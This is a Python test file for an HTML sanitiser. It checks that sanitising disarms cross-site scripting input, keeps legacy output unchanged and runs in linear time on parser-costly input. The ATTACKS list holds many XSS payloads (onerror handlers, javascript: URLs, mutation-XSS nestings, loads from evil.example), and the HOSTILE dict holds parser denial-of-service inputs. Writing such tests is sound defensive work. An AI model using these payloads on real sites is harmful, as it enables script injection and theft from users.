"""What sanitising takes away, and what it leaves byte by byte."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from pybridge.html.normalise import normalise
from pybridge.html.policy import Bounds, html_policy
from pybridge.html.sanitise import clean, sanitise, sanitise_page
from tests.growth import LINEAR, growth
from tests.trees import is_self_contained, same_dom

LEGACY = json.loads((Path(__file__).parent / "legacy_html.json").read_text("utf-8"))
MISSING_SPACE = 'data-color-theme="pico"data-tag-cloud-words'

HALVES = ['<img src=x title="', '" onerror=alert(1) x="']

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate onbegin=alert(1) attributeName="x" dur="1s"></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; java\nscript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<video poster='javascript:alert(1)'></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe src='//www.youtube.com/embed/x'></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com\\@evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/'></iframe>",
    "<iframe src='https://www.youtube.com:444/'></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<svg><iframe><img src=x onerror=alert(1)></iframe></svg>",
    "<object data='https://evil.example/'></object><embed src=x>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<form action='https://evil.example/'><input name=x><button formaction=y>z</button></form>",
    "<body onload=alert(1)>hi",
    "<html onclick=alert(1)>hi",
    "<head onclick=alert(1)>hi",
    "<frameset onload=alert(1)><frame src=x>",
    "<tr onclick=alert(1)>x",
    "<td onclick=alert(1)>x</td>",
    "<option onclick=alert(1)>x",
    '<a x=b"><tr onclick=alert(1)>"y></a>',
    "<p title=`<img src=x onerror=alert(1)>`>x",
    "<x onclick=alert(1)>click</x>",
    "<p onclick>x</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a\x0bhref='javascript:alert(1)'>x</a>",
    *HALVES,
]

ALLOWED = {
    "https://www.youtube.com/embed/x",
    "HTTPS://WWW.YouTube.com/embed/x",
    "https://player.vimeo.com/video/1?x#y",
    "https://www.youtube-nocookie.com",
}


def assert_harmless(html: str) -> None:
    """Look at what a parser finds, in the usual surroundings and in nasty ones."""
    policy = html_policy()
    for around in ("{}", "<table>{}</table>", "<svg>{}</svg>", "<select>{}</select>", "<ul>{}"):
        page = LexborHTMLParser("<!DOCTYPE html><body>" + around.format(html))
        for node in page.root.traverse() if page.root else ():
            if node.tag in {"html", "head", "table", "svg", "select", "ul", "body"}:
                assert not [name for name in node.attributes if name.startswith("on")]
                continue
            assert node.tag in policy.tags, node.tag
            own = policy.attributes.get(node.tag, frozenset()) | policy.attributes["*"]
            for name, value in node.attributes.items():
                assert name in own or name.startswith(("data-", "aria-")), name
                assert policy.keeps_value(node.tag, name, value or "")


@pytest.mark.parametrize("case", LEGACY, ids=lambda case: case["id"])
def test_legacy_output_stays_equal_as_dom(case: dict[str, str]) -> None:
    assert same_dom(case["html"], sanitise(case["html"]))


@pytest.mark.parametrize(
    "case", [c for c in LEGACY if MISSING_SPACE not in c["html"]], ids=lambda case: case["id"]
)
def test_legacy_output_keeps_its_bytes(case: dict[str, str]) -> None:
    assert sanitise(case["html"]) == case["html"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_disarmed(attack: str) -> None:
    assert_harmless(sanitise(attack))
    assert_harmless(sanitise_page(attack, html_policy()))


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitising_twice_changes_nothing(attack: str) -> None:
    once = sanitise(attack)
    assert sanitise(once) == once


def test_two_harmless_halves_do_not_join() -> None:
    joined = "".join(map(sanitise, HALVES))
    assert "<" not in joined
    assert_harmless(joined)


@pytest.mark.parametrize("src", sorted(ALLOWED))
def test_known_video_hosts_keep_their_frame(src: str) -> None:
    html = f'<iframe src="{src}"></iframe>'
    assert sanitise(html) == html


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("AT&T is > 3", "AT&T is > 3", id="text-without-markup"),
        pytest.param('" x="', '" x="', id="quotes"),
        pytest.param("Größe ⅔ 🚂", "Größe ⅔ 🚂", id="not-ascii"),
        pytest.param("a\ud800b", "a?b", id="lone-surrogate"),
        pytest.param("a < b", "a &lt; b", id="stray-less-than"),
        pytest.param("<b>x", "<b>x</b>", id="unclosed"),
        pytest.param("</div>x", "x", id="closes-the-hosts-element"),
        pytest.param("</div><div>x</div>", "<div>x</div>", id="closes-and-opens"),
        pytest.param("<p>one<p>two", "<p>one</p><p>two</p>", id="implied-end"),
        pytest.param("a<!-- b -->c", "ac", id="comment"),
        pytest.param("a<!-- b", "a", id="unclosed-comment"),
        pytest.param("<A  HREF='/x'>y</A>", "<A  HREF='/x'>y</A>", id="own-bytes"),
        pytest.param("<img src=x title=' a '/>", "<img src=x title=' a '/>", id="void-slash"),
        pytest.param(
            "<svg viewBox='0 0 1 1'><path d='M0 0'/></svg>",
            "<svg viewBox='0 0 1 1'><path d='M0 0'/></svg>",
            id="self-closing-in-svg",
        ),
        pytest.param("<div/>x", "<div>x</div>", id="self-closing-in-html"),
        pytest.param("<p style='color:red'>x</p>", "<p>x</p>", id="style-attribute"),
        pytest.param("<form><p>x</p></form>", "<p>x</p>", id="form-keeps-content"),
        pytest.param("<pre>\n\nx</pre><i>", "<pre>\n\nx</pre><i></i>", id="newline-in-pre"),
        pytest.param(
            '<iframe src="https://www.youtube.com/">x</iframe>',
            '<iframe src="https://www.youtube.com/"></iframe>',
            id="frame-with-content",
        ),
        pytest.param("a<iframe></iframe>b", "ab", id="frame-without-a-page"),
        pytest.param(
            '<b title="<iframe>">x</b><iframe src="https://www.youtube.com/"></iframe><i>',
            '<b title="&lt;iframe&gt;">x</b><iframe src="https://www.youtube.com/"></iframe><i></i>',
            id="frame-in-a-value",
        ),
        pytest.param("\ufeff<b>x</b>", "\ufeff<b>x</b>", id="byte-order-mark"),
        pytest.param("&#13;<b>x", "&#13;<b>x</b>", id="carriage-return"),
        pytest.param('<b title="--&gt;">x</b>', "<b>x</b>", id="breakout"),
        pytest.param("<svg><i>x</i></svg>", "<svg></svg><i>x</i>", id="another-nesting"),
        pytest.param(
            "<b data-é=1 data-É=2 data-a:b=3>x</b>", '<b data-é="1" data-É="2">x</b>', id="names"
        ),
        pytest.param("x\x00<b>y</b>", "x<b>y</b>", id="nul"),
        pytest.param("", "", id="empty"),
    ],
)
def test_what_becomes_of(html: str, expected: str) -> None:
    assert sanitise(html) == expected


BOUNDS = html_policy().bounds
SMALL = replace(
    html_policy(), bounds=Bounds(characters=20_000, tags=2_000, open_elements=256, attributes=256)
)
PROBES: dict[str, tuple[int, Callable[[int], str]]] = {
    "open-elements": (BOUNDS.open_elements, lambda n: "<div>" * n + "</div>" * n),
    "tags": (SMALL.bounds.tags, lambda n: "<br>" * n),
    "stray-end-tags": (SMALL.bounds.tags - 2, lambda n: "<b>x</b>" + "</i>" * n),
    "attributes": (
        BOUNDS.attributes,
        lambda n: f"<b{' data-x'.join(map(str, range(n + 1)))[1:]}>x</b>",
    ),
    "characters": (SMALL.bounds.characters - 7, lambda n: f"<b>{'x' * n}</b>"),
}


@pytest.mark.parametrize("name", PROBES)
def test_html_beyond_a_bound_is_shown_as_text(name: str) -> None:
    most, make = PROBES[name]
    assert clean(make(most), SMALL).notices == ()
    assert not sanitise(make(most), SMALL).startswith("&lt;")
    beyond = clean(make(most + 1), SMALL)
    assert beyond.html.startswith("&lt;")
    assert [notice.code for notice in beyond.notices] == ["html-left-out"]


HOSTILE: dict[str, tuple[int, Callable[[int], str]]] = {
    "stray-end-tags": (10_000, lambda n: "<b>" + "</i>" * n),
    "stray-end-tags-in-depth": (8_000, lambda n: "<i>" * 200 + "</p>" * n),
    "end-tags-around-a-cell": (
        8_000,
        lambda n: "<p><table><tr><td>" + "<i>" * 200 + "</p></div>" * (n // 2),
    ),
    "items-in-depth": (5_000, lambda n: "<ul>" + "<i>" * 200 + "<li></li>" * n),
    "nested-tables": (80, lambda n: "<table><tr><td>" * n),
    "table-of-rows": (1_000, lambda n: "<table>" + "<tr><td>x" * n),
    "tables": (500, lambda n: "<table><tr><td>x</table>" * n),
    "text-in-tables": (1_000, lambda n: "<table>" + "x<tr>" * n),
    "unclosed-values": (20_000, lambda n: '<a "' * n),
    "closed-values": (20_000, lambda n: "<a b='" * n),
    "less-than": (20_000, lambda n: "<" * n),
    "one-tag": (20_000, lambda n: "<a " + "b=c " * n),
    "one-tag-of-spaces": (200_000, lambda n: "<a " + " " * n + "b"),
    "one-tag-of-slashes": (200_000, lambda n: "<a" + "/" * n),
    "paragraphs": (5_000, lambda n: "<p>" * n),
    "foreign": (5_000, lambda n: "<svg></b>" * n),
    "closed-elements": (5_000, lambda n: "<b/></b>" * n),
    "comments": (10_000, lambda n: "<!-- -" * n),
    "closed-comments": (10_000, lambda n: "<!--->" * n),
    "iframes": (10_000, lambda n: "<iframe></iframe " * n),
    "scripts": (10_000, lambda n: "<script></style>" * n),
    "open-raw-texts": (2_000, lambda n: "<script><title><TextArea><plaintext>" * n),
    "half-closed-raw-texts": (10_000, lambda n: "<b><script></script" * n),
    "open-selects": (10_000, lambda n: "<select><template>" * n),
    "open-selects-in-closed": (5_000, lambda n: "<p><select><template></p>" * n),
    "selects-closed-once": (10_000, lambda n: "<select>" * n + "</select>"),
    "scripts-and-selects": (5_000, lambda n: "<script><select></script>" * n),
    "options": (10_000, lambda n: "<select>" + "<option>" * n),
    "references": (50_000, lambda n: "<b>" + "&amp" * n),
    "names": (200_000, lambda n: "<b>&" + "a" * n),
    "digits": (200_000, lambda n: "<b>&#" + "9" * n),
    "left-out": (5_000, lambda n: "".join(f"<x{i}>" for i in range(n))),
    "srcset": (20_000, lambda n: f'<img srcset="{"a, " * n}">'),
    "srcset-of-spaces": (200_000, lambda n: f'<img srcset="a{" " * n}b">'),
    "srcset-of-commas": (200_000, lambda n: f'<img srcset="a{"," * n}">'),
    "schemes": (200_000, lambda n: f'<a href="{":" * n}">'),
    "scheme-of-spaces": (200_000, lambda n: f'<a href="j{" " * n}:">'),
    "breakouts": (100_000, lambda n: f'<a title="{"-]<" * n}">'),
    "bold": (50, lambda n: "<b>" * n + "x"),
    "links": (5_000, lambda n: "<a>" * n),
    "pre": (10_000, lambda n: "<pre>" + "\n" * n),
    "ruby": (5_000, lambda n: "<ruby>" + "<rt>" * n),
    "math": (5_000, lambda n: "<math>" + "<mi>" * n),
    "paints": (100_000, lambda n: f"<svg><path fill='{'rgb' * n}url'/>"),
    "paint-functions": (100_000, lambda n: f"<svg><path fill='{'rgb(' * n}x('/>"),
}
"""What costs parsers most, made for a size."""


@pytest.mark.costs
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_of_twice_the_size_takes_twice_the_time(name: str) -> None:
    size, make = HOSTILE[name]
    # Not `sanitise`, which remembers short fragments.
    assert growth(lambda html: sanitise_page(html, html_policy()), make, size) < LINEAR


LOADED = [
    *(
        "url(//a)",
        "url(a.svg#b)",
        "url( 'https://a.example/' )",
        'url("//a#b")',
        "URL(a)",
        "red url(//a)",
    ),
    *(
        "url(#b) url(//a)",
        "color-mix(in srgb, red, url(//a))",
        "src('//a')",
        "image-set('a' 1x)",
        "attr(x)",
    ),
    *("\\75rl(//a)", "ur\\6c(//a)", "url(", "url(\xa0#a)", "(", "cross-fade(red, url(#a))"),
]
OWN = [
    *("red", "#f00", "none", "currentColor", "url(#a)", "url('#a')", "url( \"#a\" ) red", "URL(#a)", "url(\n#a)"),
    *("rgb(1 2 3 / .5)", "RGBA(1, 2, 3, 1)", "oklch(40% .2 90)", "color-mix(in srgb, red, rgb(1,2,3))", "var(--a)"),
]  # fmt: skip


@pytest.mark.parametrize("attribute", ["fill", "stroke", "FILL"])
def test_a_paint_loads_nothing(attribute: str) -> None:
    for value in LOADED:
        written = f"<svg><path {attribute}='{value.replace(chr(39), '&#39;')}'/></svg>"
        cleaned = clean(written, html_policy())
        assert f" {attribute.lower()}=" not in cleaned.html.lower(), value
        assert [notice.code for notice in cleaned.notices] == ["html-left-out"]
    for value in OWN:
        written = f"<svg><path {attribute}='{value.replace(chr(39), '&#39;')}'/></svg>"
        assert clean(written, html_policy()).html == written


def test_a_fragment_that_is_kept_leaves_the_text_around_it_alone() -> None:
    assert is_self_contained("<b>x</b>")
    assert not is_self_contained("<b>x")
    assert not is_self_contained("<textarea>")
    assert not is_self_contained("<body onload=x>")


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("a<br><b><i title='>' lang=e/f>x</i></b>", True, id="plain"),
        pytest.param("<b><i></b></i>", False, id="crossed"),
        pytest.param("<iframe src=//a>x</iframe>", False, id="frame-with-content"),
        pytest.param("<b", False, id="open"),
        pytest.param("<svg><path/></svg>", True, id="self-closing-in-svg"),
        pytest.param("<svg><path d=x/></path></svg>", True, id="slash-of-a-value"),
        pytest.param("<svg><path d=x/></svg>", False, id="slash-of-a-value-only"),
        pytest.param("<b/>", False, id="self-closing-in-html"),
        pytest.param("<td>x</td>", False, id="ignored-outside-a-table"),
        pytest.param("<body>x</body>", False, id="reaches-out"),
        pytest.param("<h1>x</h2>", False, id="another-heading"),
        pytest.param("<math><mi><b>x</b></mi></math>", False, id="html-in-math"),
        pytest.param("<math><mi><mo>x</mo></mi></math>", False, id="math-in-its-text"),
        pytest.param("<a><svg><a></a></svg></a>", True, id="links-of-two-kinds"),
    ],
)
def test_which_html_is_kept_as_it_is_written(html: str, expected: bool) -> None:
    normalised = normalise(html, html_policy(), BOUNDS)
    assert normalised is not None
    assert normalised.is_exact is expected


PIECES = st.sampled_from(
    [
        "<",
        ">",
        '"',
        "'",
        "=",
        "/",
        " ",
        "<b",
        "</b>",
        "<img src=x ",
        "onerror=alert(1)",
        "<!--",
        "-->",
        "<svg>",
        "</svg>",
        "<iframe>",
        "<table>",
        "<td>",
        "<a href=",
        "javascript:",
        "x",
        "&lt;",
        "<style>",
        "</style>",
        "<title>",
        "<p title=",
        "`",
        "\n",
        "<math>",
        "<mi>",
        "<body ",
        "<tr ",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_anything_is_disarmed(html: str) -> None:
    assert_harmless(sanitise(html))


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        pytest.param(
            '<img src="javascript:x" class="a" title="b"><i>',
            '<img class="a" title="b">',
            id="order",
        ),
        pytest.param(
            '<p onclick=x title="t" class="c"><b z=1 lang=en dir=ltr>',
            '<p title="t" class="c"><b lang="en" dir="ltr">',
            id="nested",
        ),
        pytest.param(
            '<b title=" \ufeff\u3000t\x1c "></b></i>',
            '<b title="t\x1c"></b>',
            id="trimmed-as-in-javascript",
        ),
    ],
)
def test_sanitised_attributes_are_as_a_browser_leaves_them(written: str, kept: str) -> None:
    assert sanitise(written).startswith(kept)


def test_without_a_tag_text_stays_as_it_is() -> None:
    assert sanitise("x\0y &copy;") == "x\0y &copy;"
